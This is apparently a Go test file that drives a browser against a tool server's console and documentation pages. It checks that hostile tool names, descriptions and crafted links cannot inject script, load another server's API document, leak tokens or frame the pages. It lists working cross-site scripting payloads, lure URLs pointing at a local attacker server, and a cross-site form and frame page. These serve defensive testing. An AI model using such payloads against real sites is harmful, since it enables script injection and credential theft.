package browser_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/toolsrv/toolsrv/wasmtools"
	"github.com/toolsrv/toolsrv/wasmtools/gotool"
	"github.com/toolsrv/toolsrv/wasmtools/schema"
)

// attacks are texts that a page must show as text. Otherwise each would set window.stolen, or send a request to another server.
var attacks = []string{
	`<script>window.stolen = 1</script>`,
	`</script><script>window.stolen = 1</script>`,
	`<img src=x onerror="window.stolen = 1">`,
	`<svg onload="window.stolen = 1"><script>window.stolen = 1</script></svg>`,
	`<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>`,
	`<a href="javascript:window.stolen = 1" id="lure">free tokens</a>`,
	`[free tokens](javascript:window.stolen=1)`,
	`[free tokens](data:text/html,<script>opener.stolen=1</script>)`,
	`<form action="https://elsewhere.example/"><input name="token"><button>Go</button></form>`,
	`<style>body { display: none }</style>`,
	`<base href="https://elsewhere.example/">`,
	`<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">`,
	"`${window.stolen = 1}` {{constructor.constructor('window.stolen = 1')()}}",
	`"><details open ontoggle="window.stolen = 1">`,
	"\u202egpj.exe\u202c \u2066hidden\u2069 \u200bzero\u200dwidth \u00adsoft \ufeffmark \u0000nul",
}

// attacking returns a tool that has this text in every place where a tool can have text.
func attacking(path, text string) *wasmtools.Tool {
	namespace, name, _ := strings.Cut(path, "/")
	t := &wasmtools.Tool{
		Namespace: namespace, Name: name, Title: strings.ReplaceAll(text, "\x00", ""), Description: text + "\n\n" + text, Version: "1",
		Parameters: schema.MustCompile(fmt.Sprintf(`{"type":"object","title":%[1]s,"description":%[1]s,"properties":{%[1]s:{"type":"string","description":%[1]s,"default":%[1]s,"enum":[%[1]s,"b"]}}}`, quoted(text))),
		Caller: wasmtools.CallerFunc(func(context.Context, *wasmtools.Call) ([]byte, error) {
			return []byte(quoted(text)), nil
		}),
		Examples: []wasmtools.Example{{Arguments: []byte(fmt.Sprintf(`{%[1]s:%[1]s}`, quoted(text)))}},
	}
	return t
}

// TestHostileTools has tools with hostile texts in everything that pages show.
// Proves: Web pages are kept out
func TestHostileTools(t *testing.T) {
	t.Parallel()
	var tools []*wasmtools.Tool
	for i, text := range attacks {
		one := attacking(fmt.Sprintf("bad/t%d", i), text)
		if err := one.Check(); err != nil { // a tool with this text can't be served at all
			one.Title = ""
			if err := one.Check(); err != nil {
				t.Fatalf("%q: %v", text, err)
			}
		}
		tools = append(tools, one)
	}
	home := serve(t, "", tools...)
	p := open(t, home, "/")
	p.read(fmt.Sprintf("%d tools", len(attacks)))
	p.read(`<script>window.stolen = 1</script>`)
	p.stolen()
	if eval[bool](p, `/[\u202a-\u202e\u2066-\u2069\u200b\ufeff]/.test(document.body.innerText)`) {
		t.Errorf("the page shows characters that hide or turn round what is beside them:\n%s", p.shown())
	}
	p.check()

	p.visit("/docs/bad")
	p.read("/bad/t0")
	for i := range attacks {
		p.click(fmt.Sprintf("#operations-bad-bad-t%d .opblock-summary-control", i))
		p.see(fmt.Sprintf("#operations-bad-bad-t%d .try-out__btn", i))
	}
	p.stolen()
	p.click("#operations-bad-bad-t3 .try-out__btn")
	p.click("#operations-bad-bad-t3 .execute")
	p.until(`document.querySelector("#operations-bad-bad-t3 .live-responses-table")?.innerText.includes("<svg onload")`)
	p.stolen()
}

// TestLongWords has a tool whose texts are single words of a megabyte.
func TestLongWords(t *testing.T) {
	t.Parallel()
	word := strings.Repeat("long", 256<<10)
	one := attacking("bad/long", "x")
	one.Description = word
	p := open(t, serve(t, "", one, add()), "/")
	p.read("2 tools")
	p.check()
	p.write("#filter", "add")
	p.until("document.querySelectorAll('.tools li').length === 1")
}

// TestLures follows links that an attacker made for an administrator to click.
// Proves: Web pages are kept out
func TestLures(t *testing.T) {
	t.Parallel()
	elsewhere := make(chan string, 100)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		elsewhere <- r.URL.Path + " " + r.Header.Get("Authorization")
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*, Authorization")
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"openapi":"3.1.0","info":{"title":"Stolen","version":"1"},"servers":[{"url":"http://` + r.Host + `"}],"paths":{"/steal":{"get":{"summary":"Steal","responses":{}}}}}`))
	}))
	t.Cleanup(attacker.Close)
	home := serve(t, "", add())
	for _, lure := range []string{
		"/docs?url=" + attacker.URL + "/openapi.json",
		"/docs?configUrl=" + attacker.URL + "/config.json",
		"/docs?urls=" + attacker.URL + "&urls.primaryName=x",
		"/docs?url=data:application/json,{}",
		"/docs?oauth2RedirectUrl=" + attacker.URL,
		"/docs#/../" + attacker.URL,
		"/docs?url=//" + attacker.Listener.Addr().String() + "/openapi.json#/math/math-add",
		"/?next=" + attacker.URL + "&token=stolen",
		"/docs?x=<script>window.stolen=1</script>#<img src=x onerror=window.stolen=1>",
		"/?x=<script>window.stolen=1</script>#<img src=x onerror=window.stolen=1>",
	} {
		p := open(t, home, lure)
		p.read("/math/add")
		p.stolen()
		if text := p.shown(); strings.Contains(text, "Stolen") || strings.Contains(text, "steal") {
			t.Errorf("%s shows the document of another server:\n%s", lure, text)
		}
		if eval[string](p, "JSON.stringify(sessionStorage)") != "{}" {
			t.Errorf("%s sets a token", lure)
		}
	}
	select {
	case asked := <-elsewhere:
		t.Errorf("the attacker was asked for %s", asked)
	default:
	}
}

// TestFrames lets a page of another site try to show our pages in a frame, to control them in a window that it opens, and to send forms to the
// server.
// Proves: Web pages are kept out
func TestFrames(t *testing.T) {
	t.Parallel()
	var called atomic.Int64
	home := serve(t, "", gotool.New("math/add", "Add nothing.", func(context.Context, struct{}) (int64, error) { return called.Add(1), nil }))
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, `<!doctype html><html lang="en"><title>x</title><body><iframe id="f" src="%[1]s%[2]s"></iframe>
<form id="send" method="post" enctype="text/plain" action="%[1]s/math/add" target="f2"><input name='{"c":"' value='"}'></form><iframe name="f2" id="f2"></iframe>
<script src="%[1]s/console/index.js"></script><script src="%[1]s/tools"></script></body></html>`, home, r.URL.Path)
	}))
	t.Cleanup(site.Close)
	other := strings.Replace(site.URL, "127.0.0.1", "localhost", 1) // browsers treat this as another site
	for _, path := range []string{"/", "/docs", "/docs/math"} {
		p := open(t, other, path)
		p.mu.Lock()
		all := strings.Join(p.faults, "\n")
		p.faults, p.tolerated = nil, []string{""} // the attack fails
		p.mu.Unlock()
		if !strings.Contains(all, "frame-ancestors 'none'") {
			t.Errorf("the browser does not report that %s can't be shown in a frame:\n%s", path, all)
		}
		got := eval[string](p, `fetch("`+home+path+`").then((r) => r.text(), (e) => String(e))`)
		if !strings.Contains(got, "TypeError") {
			t.Errorf("another site reads %s: %s", path, got)
		}
		eval[bool](p, `document.getElementById("send").submit() === undefined && new Promise((yes) => setTimeout(() => yes(true), 100))`)
		opened := eval[string](p, `(() => { const w = window.open("`+home+path+`"); return new Promise((yes) => setTimeout(() => { try { yes(String(w === null || w.closed)); } catch (e) { yes("apart"); } }, 1000)); })()`)
		if opened == "false" {
			t.Errorf("another site keeps control of a window with %s", path)
		}
	}
	if n := called.Load(); n > 0 {
		t.Errorf("a form of another site has called a tool %d times", n)
	}
}
